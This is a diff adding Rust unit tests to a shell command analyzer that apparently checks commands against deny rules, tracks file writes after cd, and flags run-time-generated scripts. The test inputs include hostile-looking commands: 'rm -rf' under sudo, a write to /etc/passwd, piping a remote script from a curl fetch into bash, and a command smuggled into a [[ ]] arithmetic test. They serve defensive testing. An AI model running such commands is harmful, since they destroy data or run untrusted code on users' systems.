@@ -341,4 +341,71 @@ mod tests {
         let line = CommandLine::analyze("/bin/rm -rf x");
         assert_eq!(line.runs()[0].deny_texts(), ["/bin/rm -rf x", "rm -rf x"]);
     }
+
+    #[test]
+    fn words_after_a_redirection_are_the_commands_arguments() {
+        assert_eq!(
+            runs("echo >&2 \"no such arch\" now"),
+            ["echo 'no such arch' now"]
+        );
+        assert_eq!(
+            runs("sudo >/dev/null rm -rf x"),
+            ["sudo rm -rf x", "rm -rf x"]
+        );
+        assert_eq!(
+            runs("timeout 5 2>/dev/null rm -rf x"),
+            ["timeout 5 rm -rf x", "rm -rf x"]
+        );
+    }
+
+    #[test]
+    fn a_write_after_cd_lands_where_cd_went() {
+        let targets = |command: &str| -> Vec<(String, bool)> {
+            CommandLine::analyze(command)
+                .writes()
+                .iter()
+                .map(|write| (write.target.text.clone(), write.target.is_exact()))
+                .collect()
+        };
+        assert_eq!(
+            targets("cd / && echo x > etc/passwd"),
+            [("/etc/passwd".to_owned(), true)]
+        );
+        assert_eq!(
+            targets("cd sub && cd deeper && echo x > f"),
+            [("sub/deeper/f".to_owned(), true)]
+        );
+        assert_eq!(
+            targets("cd \"$D\" && echo x > f"),
+            [("f".to_owned(), false)]
+        );
+        assert_eq!(targets("cd && echo x > f"), [("f".to_owned(), false)]);
+        assert_eq!(targets("echo x > ~root/f"), [("~root/f".to_owned(), false)]);
+    }
+
+    #[test]
+    fn scripts_made_at_run_time_are_unknown() {
+        for command in [
+            "bash <(curl -s https://x.test/i.sh)",
+            "source <(kubectl completion bash)",
+            ". <(cat x)",
+            "[[ $x -eq 'a[$(touch p)]' ]]",
+        ] {
+            assert!(!CommandLine::analyze(command).is_fully_known(), "{command}");
+        }
+        for command in [
+            "bash install.sh",
+            "source .venv/bin/activate",
+            "[[ \"$(uname)\" == Linux ]]",
+        ] {
+            assert!(CommandLine::analyze(command).is_fully_known(), "{command}");
+        }
+    }
+
+    #[test]
+    fn a_quoted_glob_is_shown_quoted_and_an_unquoted_one_as_written() {
+        assert_eq!(runs("rm '*'"), ["rm '*'"]);
+        assert_eq!(runs("rm *.o"), ["rm *.o"]);
+        assert_eq!(runs("cp {a,b}.txt ~/x"), ["cp {a,b}.txt ~/x"]);
+    }
 }
